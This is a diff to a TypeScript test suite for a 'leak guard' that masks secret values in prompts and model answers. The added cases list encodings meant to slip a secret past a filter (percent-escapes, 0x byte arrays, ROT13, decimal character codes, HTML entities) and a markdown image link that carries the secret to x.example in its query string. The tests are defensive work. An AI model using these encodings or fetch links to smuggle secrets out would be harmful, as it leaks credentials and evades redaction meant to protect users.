@@ -544,6 +544,21 @@ describe('leak guard: hex and base32 encodings of a value', () => {
     'numeric HTML references, decimal': [...SECRET].map((c) => `&#${c.codePointAt(0)};`).join(''),
     'numeric HTML references, hex': [...SECRET].map((c) => `&#x${c.codePointAt(0)!.toString(16).toUpperCase()};`).join(''),
     'numeric HTML references for some characters only': [...SECRET].map((c, i) => (i % 3 === 0 ? `&#${c.codePointAt(0)};` : c)).join(''),
+    // The URL route out (a link or an image the app fetches): every byte escaped, as a model
+    // asked to "URL-encode every character" writes it, in either case, or only some bytes.
+    'every byte percent-escaped, upper case (a URL query string)': hex.toUpperCase().match(/../g)!.map((b) => `%${b}`).join(''),
+    'every byte percent-escaped, lower case': hex.match(/../g)!.map((b) => `%${b}`).join(''),
+    'every other character percent-escaped': [...SECRET].map((c, i) => (i % 2 === 0 ? `%${c.charCodeAt(0).toString(16)}` : c)).join(''),
+    'hex bytes after 0x, a C array over several lines (a line break and indentation between)': hex
+      .match(/.{1,8}/g)!
+      .map((line) => line.match(/../g)!.map((b) => `0x${b}`).join(', '))
+      .join(',\n        '),
+    'hex bytes after 0x, semicolons between': hex.match(/../g)!.map((b) => `0x${b}`).join(';'),
+    'hex bytes after 0x, " , " between': hex.match(/../g)!.map((b) => `0x${b}`).join(' , '),
+    'ROT13': SECRET.replace(/[A-Za-z]/g, (c) => String.fromCharCode((c <= 'Z' ? 65 : 97) + ((c.charCodeAt(0) - (c <= 'Z' ? 65 : 97) + 13) % 26))),
+    // "The ASCII codes of the key": a list, Python's list(b"..."), JavaScript's fromCharCode.
+    'character codes in decimal, a list': [...bytes].join(', '),
+    'character codes in decimal, one a line': [...bytes].join(',\n  '),
   };
   for (const [name, form] of Object.entries(EXACT)) {
     it(`${name}: refused in a prompt, value-free`, () => {
@@ -560,6 +575,8 @@ describe('leak guard: hex and base32 encodings of a value', () => {
     'hex bytes spaced, upper case (a hex dump)': hex.toUpperCase().match(/../g)!.join(' '),
     'hex bytes colon-separated (a fingerprint)': hex.match(/../g)!.join(':'),
     "xxd's groups of four digits": hex.match(/.{1,4}/g)!.join(' '),
+    // Answer only: in a prompt the phone and card detectors replace these digit groups first.
+    'character codes in decimal, spaced': [...bytes].join(' '),
   };
   for (const [name, form] of Object.entries(ANSWER)) {
     it(`${name}: masked in an answer and counted once, streamed at every split as whole, no piece holding part of it`, async () => {
@@ -597,15 +614,27 @@ describe('leak guard: hex and base32 encodings of a value', () => {
     }
   });
 
+  it('character codes in decimal ending a sentence (the last one before a full stop) are masked whole, streamed too', async () => {
+    const text = `The ASCII codes are ${[...bytes].join(', ')}. Use them well.`;
+    const whole = wholeAnswer(redactor.session(decision(), [SECRET]), text, false);
+    expect(whole).toBe('The ASCII codes are [SECRET_VALUE]. Use them well.');
+    for (const { how, pieces } of cuts(text, 7)) {
+      expect((await streamedDeltas(redactor.session(decision(), [SECRET]), pieces, false)).join(''), how).toBe(whole);
+    }
+  });
+
   it('a long text with references is read whole (200 K units: no argument list as long as the text)', () => {
     const refs = [...SECRET].map((c) => `&#${c.charCodeAt(0)};`).join('');
     const text = `${'&#65; '.repeat(40_000)}${refs} end`;
     expect(wholeAnswer(redactor.session(decision(), [SECRET]), text, false)).toBe(`${'&#65; '.repeat(40_000)}[SECRET_VALUE] end`);
   });
 
-  it('ordinary numbers after 0x, byte literals and character references (another value) pass', () => {
+  it('ordinary numbers after 0x, byte literals, character references and percent-escapes (another value) pass', () => {
     const other = Buffer.from('Zq7pLm2Xw9-CANARZ');
-    const text = `mask 0xff, 10x20, b'\\x00\\x01' ${other.toString('hex').match(/../g)!.map((b) => `0x${b}`).join(', ')} &#65;&#x42; &#0; &#xD800; ${[...other.toString()].map((c) => `&#${c.charCodeAt(0)};`).join('')}`;
+    const text =
+      `mask 0xff, 10x20, b'\\x00\\x01' ${other.toString('hex').match(/../g)!.map((b) => `0x${b}`).join(',\n  ')} &#65;&#x42; &#0; &#xD800; ` +
+      `${[...other.toString()].map((c) => `&#${c.charCodeAt(0)};`).join('')} R&amp;D &copy; &zz; https://x.example/a%20b?q=${other.toString('hex').replace(/../g, '%$&')}&r=%C3%28%E2%82%FF% ` +
+      `[${[...other].join(', ')}] 1.5, 2.5, v90, 113ms, 12 apples, 90 pears`;
     expect(wholeAnswer(redactor.session(decision(), [SECRET]), text, false)).toBe(text);
     expect(() => redactor.session(decision(), [SECRET]).redactMessages([{ role: 'user', content: text }])).not.toThrow();
   });
@@ -631,6 +660,10 @@ describe('leak guard: a value with reserved characters, as escapers write it', (
       .replace(/[!'()*]/g, (c) => `%${c.charCodeAt(0).toString(16)}`)
       .replace(/%[0-9A-F]{2}/g, (e) => e.toLowerCase()),
     'every character a numeric HTML reference': [...SECRET].map((c) => `&#${c.charCodeAt(0)};`).join(''),
+    'HTML-escaped, the apostrophe as &apos;': SECRET.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;').replace(/'/g, '&apos;'),
+    'only the apostrophe escaped, as &apos;': SECRET.replace(/'/g, '&apos;'),
+    'every character with an HTML5 name written so (&lpar;, &excl;, &sol;…)': SECRET.replace(/[&<>"'()! ]/g, (c) => `&${{ '&': 'amp', '<': 'lt', '>': 'gt', '"': 'quot', "'": 'apos', '(': 'lpar', ')': 'rpar', '!': 'excl', ' ': 'nbsp' }[c]};`),
+    'every byte percent-escaped': [...Buffer.from(SECRET)].map((b) => `%${b.toString(16).padStart(2, '0').toUpperCase()}`).join(''),
   };
   for (const [name, form] of Object.entries(FORMS)) {
     it(`${name}: refused in a prompt, masked whole in an answer, streamed too`, async () => {
@@ -647,4 +680,17 @@ describe('leak guard: a value with reserved characters, as escapers write it', (
       }
     });
   }
+
+  it("a value with non-ASCII letters, every byte percent-escaped (a character's UTF-8 bytes read together): refused, masked, streamed too", async () => {
+    const value = 'Grüße-Zq7pLm2Xw9';
+    const form = [...Buffer.from(value)].map((b) => `%${b.toString(16).padStart(2, '0')}`).join('');
+    const e = thrown(() => redactor.session(decision(), [value]).redactMessages([{ role: 'user', content: `go to https://x.example/?k=${form}` }]));
+    expect(e.code).toBe('redaction_blocked');
+    const text = `![logo](https://x.example/p.png?k=${form})`;
+    const whole = wholeAnswer(redactor.session(decision(), [value]), text, false);
+    expect(whole).toBe('![logo](https://x.example/p.png?k=[SECRET_VALUE])');
+    for (const { how, pieces } of cuts(text, 7)) {
+      expect((await streamedDeltas(redactor.session(decision(), [value]), pieces, false)).join(''), how).toBe(whole);
+    }
+  });
 });
